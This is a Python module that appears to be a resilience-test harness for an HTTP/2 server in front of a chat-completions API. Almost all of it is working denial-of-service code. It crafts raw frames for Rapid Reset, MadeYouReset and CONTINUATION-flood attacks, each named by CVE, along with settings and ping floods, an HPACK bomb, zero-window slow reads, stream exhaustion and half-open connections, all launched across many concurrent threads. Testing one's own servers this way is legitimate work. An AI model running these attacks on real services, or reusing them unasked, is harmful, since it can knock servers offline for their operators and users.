"""What can be done to a server of HTTP/2 with frames alone. Each attack runs for so many seconds over so many connections
at once, and says what it sent and how the server ended its connections."""
import collections, os, select, socket, ssl, struct, threading, time

from stack import API_KEY

PREFACE = b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CODES = ['NO_ERROR', 'PROTOCOL_ERROR', 'INTERNAL_ERROR', 'FLOW_CONTROL_ERROR', 'SETTINGS_TIMEOUT', 'STREAM_CLOSED', 'FRAME_SIZE_ERROR', 'REFUSED_STREAM',
         'CANCEL', 'COMPRESSION_ERROR', 'CONNECT_ERROR', 'ENHANCE_YOUR_CALM']
BODY = b'{"model":"gemini-2.5-flash-lite","stream":true,"messages":[{"role":"user","content":"hi"}]}'
# A connection that is refused at once is not made anew without an end.
MOST_CONNECTIONS = 3000


def frame(kind, flags, stream, payload=b''):
    return struct.pack('>I', len(payload))[1:] + bytes((kind, flags)) + struct.pack('>I', stream) + payload


def text(value):
    """A string of HPACK, without Huffman's code."""
    if len(value) < 127:
        return bytes((len(value),)) + value
    rest, coded = len(value) - 127, b'\x7f'
    while rest >= 128:
        rest, coded = rest >> 7, coded + bytes((rest & 127 | 128,))
    return coded + bytes((rest,)) + value


def field(name, value, kept=False):
    return (b'\x40' if kept else b'\x00') + text(name) + text(value)


def head(key, method=b'POST', path=b'/v1/chat/completions'):
    fields = {b':method': method, b':scheme': b'http', b':path': path, b':authority': b'localhost', b'authorization': b'Bearer ' + key.encode()}
    return b''.join(field(name, value) for name, value in fields.items())


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b''.join(struct.pack('>HI', *pair) for pair in pairs))


class Ended(Exception):
    """The server has ended the connection."""


class Connection:
    def __init__(self, attack, opening=None):
        self.attack, self.unread, self.next, self.code = attack, b'', 1, None
        host, port = attack.address.split(':')
        self.socket = socket.create_connection((host, int(port)), timeout=10)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.setblocking(False)
        self.send(PREFACE + (settings() if opening is None else opening))

    def stream(self):
        self.next += 2
        return self.next - 2

    def send(self, data, reads=True):
        """Sends all of it and reads what comes meanwhile, as a client does that wants to be read; `reads=False` does not."""
        data = memoryview(data)
        while data:
            if time.monotonic() > self.attack.end:
                raise TimeoutError
            readable, writable, _ = select.select([self.socket] if reads else [], [self.socket], [], 0.2)
            if readable:
                self.read()
            if writable:
                try:
                    data = data[self.socket.send(data[:65536]):]
                except BlockingIOError:
                    pass

    def read(self, wait=0.0):
        """The frames that have come, as (kind, stream, payload)."""
        if wait and not select.select([self.socket], [], [], wait)[0]:
            return []
        frames = []
        try:
            got = self.socket.recv(1 << 20)
        except BlockingIOError:
            return []
        except OSError:
            got = b''
        self.unread += got
        while len(self.unread) >= 9 and len(self.unread) >= 9 + (size := int.from_bytes(self.unread[:3], 'big')):
            kind, stream, payload = self.unread[3], int.from_bytes(self.unread[5:9], 'big'), self.unread[9:9 + size]
            self.unread = self.unread[9 + size:]
            if kind == GOAWAY:
                self.code = CODES[min(int.from_bytes(payload[4:8], 'big'), len(CODES) - 1)]
            elif kind == SETTINGS and payload:
                self.acknowledge()
            frames.append((kind, stream, payload))
        if not got:
            raise Ended
        return frames

    def acknowledge(self):
        try:
            self.socket.send(frame(SETTINGS, ACK, 0))
        except OSError:
            # In the middle of a frame, or with no room: an attacker may leave it out.
            pass

    def close(self):
        self.socket.close()


class Attack:
    """Threads that each attack over one connection at a time until the end."""

    def __init__(self, address, seconds, connections, key):
        self.address, self.end, self.connections, self.key = address, time.monotonic() + seconds, connections, key
        self.sent, self.opened, self.ends, self.lock = 0, 0, collections.Counter(), threading.Lock()

    def over(self):
        return time.monotonic() > self.end

    def run(self, way):
        threads = [threading.Thread(target=self.attend, args=(way,), daemon=True) for _ in range(self.connections)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(max(0, self.end - time.monotonic()) + 10)
        ends = ', '.join(f'{count} {how}' for how, count in self.ends.most_common(3))
        return f'{self.sent:,} {way.unit}, {self.opened:,} connections' + (f', ended: {ends}' if ends else '')

    def attend(self, way):
        while not self.over() and self.opened < MOST_CONNECTIONS:
            with self.lock:
                self.opened += 1
            connection = None
            try:
                connection = Connection(self, way.opening)
                for sent in way(self, connection):
                    with self.lock:
                        self.sent += sent
                    if self.over():
                        break
            except TimeoutError:
                pass
            except (Ended, OSError):
                # What the server said last may still have to be read.
                with self.lock:
                    self.ends[connection.code or 'closed' if connection else 'not let in'] += 1
            if connection:
                connection.close()


def way(unit, opening=None):
    def named(function):
        function.unit, function.opening = unit, opening
        return function
    return named


@way('resets')
def rapid_reset(attack, connection):
    """CVE-2023-44487: streams are asked for and reset at once."""
    block = head(attack.key)
    while True:
        ids = [connection.stream() for _ in range(200)]
        connection.send(b''.join(frame(HEADERS, END_HEADERS | END_STREAM, n, block) + frame(RST_STREAM, 0, n, struct.pack('>I', 8)) for n in ids))
        yield len(ids)


@way('resets provoked')
def made_you_reset(attack, connection):
    """CVE-2025-8671: streams are asked for and broken, so that the server resets them."""
    block = head(attack.key)
    breaks = [lambda n: frame(WINDOW_UPDATE, 0, n, bytes(4)), lambda n: frame(WINDOW_UPDATE, 0, n, struct.pack('>I', 2**31 - 1)),
              lambda n: frame(DATA, END_STREAM, n, BODY) + frame(DATA, 0, n, BODY), lambda n: frame(PRIORITY, 0, n, struct.pack('>IB', n, 1))]
    while True:
        ids = [connection.stream() for _ in range(100)]
        connection.send(b''.join(frame(HEADERS, END_HEADERS, n, block) + breaks[n // 2 % len(breaks)](n) for n in ids))
        yield len(ids)


@way('frames')
def continuations(attack, connection):
    """CVE-2024-27316: a head that never ends, of large pieces or of empty ones."""
    piece = field(b'x-more', b'x' * 1000) * 16 if connection.stream() % 4 == 1 or attack.opened % 2 else b''
    connection.send(frame(HEADERS, END_STREAM, 1, head(attack.key)))
    while True:
        connection.send(frame(CONTINUATION, 0, 1, piece) * 64)
        yield 64


@way('frames')
def settings_flood(attack, connection):
    burst = settings((3, 100), (4, 65535)) * 500
    while True:
        connection.send(burst)
        yield 500


@way('frames')
def pings_unread(attack, connection):
    """Each wants an answer, and none is read."""
    burst = frame(PING, 0, 0, b'12345678') * 500
    while True:
        connection.send(burst, reads=False)
        yield 500


@way('frames')
def ping_flood(attack, connection):
    burst = frame(PING, 0, 0, b'12345678') * 500
    while True:
        connection.send(burst)
        yield 500


@way('frames')
def useless_frames(attack, connection):
    """PRIORITY, frames of no known kind, and window updates that nobody needs."""
    burst = (frame(PRIORITY, 0, 1001, struct.pack('>IB', 0, 1)) + frame(0xbb, 0, 0, b'grease') + frame(WINDOW_UPDATE, 0, 0, struct.pack('>I', 1))) * 200
    while True:
        connection.send(burst)
        yield 600


@way('frames')
def empty_data(attack, connection):
    """A body that is nothing, over and over."""
    n = connection.stream()
    connection.send(frame(HEADERS, END_HEADERS, n, head(attack.key)))
    while True:
        connection.send(frame(DATA, 0, n) * 500)
        yield 500


@way('streams', settings((4, 0)))
def no_windows(attack, connection):
    """Answers are asked for, and taken byte by byte."""
    block, ids = head(attack.key), [connection.stream() for _ in range(50)]
    connection.send(b''.join(frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, BODY) for n in ids))
    yield len(ids)
    while True:
        connection.send(b''.join(frame(WINDOW_UPDATE, 0, n, struct.pack('>I', 1)) for n in ids))
        connection.read(0.1)
        yield 0


@way('streams')
def changing_windows(attack, connection):
    """The window of all streams is opened and shut in turn."""
    block, ids = head(attack.key), [connection.stream() for _ in range(50)]
    connection.send(b''.join(frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, BODY) for n in ids))
    yield len(ids)
    while True:
        connection.send((settings((4, 2**31 - 1)) + settings((4, 0))) * 50)
        connection.read(0.01)
        yield 0


@way('requests')
def hpack_bomb(attack, connection):
    """One large field is kept, and named thousands of times in each head."""
    block = head(attack.key)
    connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), field(b'x-bomb', b'x' * 3900, kept=True) + block))
    while True:
        connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block + b'\xbe' * 15000))
        yield 1


@way('streams')
def goaway_in_the_middle(attack, connection):
    """A client that says goodbye in the middle of its answers."""
    block, ids = head(attack.key), [connection.stream() for _ in range(10)]
    connection.send(b''.join(frame(HEADERS, END_HEADERS, n, block) + frame(DATA, END_STREAM, n, BODY) for n in ids))
    yield len(ids)
    while not any(kind == DATA for kind, _, _ in connection.read(0.2)):
        if attack.over():
            return
    connection.send(frame(GOAWAY, 0, 0, struct.pack('>II', 0, 0)))
    time.sleep(0.2)


@way('streams')
def too_many_streams(attack, connection):
    """More streams than may be, none of which ends."""
    block = head(attack.key)
    for _ in range(15):
        ids = [connection.stream() for _ in range(100)]
        connection.send(b''.join(frame(HEADERS, END_HEADERS, n, block) for n in ids))
        yield len(ids)
    while not attack.over():
        connection.read(0.2)
        yield 0


@way('connections', b'')
def half_opened(attack, connection):
    """A preface and then silence; half of a head, or the end of what the client has to say."""
    kind = attack.opened % 3
    if kind == 1:
        connection.send(settings() + frame(HEADERS, END_STREAM, 1, head(attack.key)))
    if kind == 2:
        connection.send(settings())
        connection.socket.shutdown(socket.SHUT_WR)
    yield 1
    while not attack.over():
        connection.read(0.5)
        yield 0


# What is done, over how many connections (in full: four times as many), and whether with a key.
ATTACKS = [(rapid_reset, 16, False), (rapid_reset, 16, True), (made_you_reset, 16, False), (made_you_reset, 16, True), (continuations, 16, False),
           (settings_flood, 16, False), (ping_flood, 16, False), (pings_unread, 64, False), (useless_frames, 16, False), (empty_data, 16, True),
           (no_windows, 8, True), (changing_windows, 8, True), (hpack_bomb, 16, False), (goaway_in_the_middle, 16, True),
           (too_many_streams, 16, False), (too_many_streams, 8, True), (half_opened, 300, False)]


def run(which, address, seconds, connections, key):
    os.nice(10)
    return Attack(address, seconds, connections, API_KEY if key else 'sk-nobody-has-this-key').run(which)
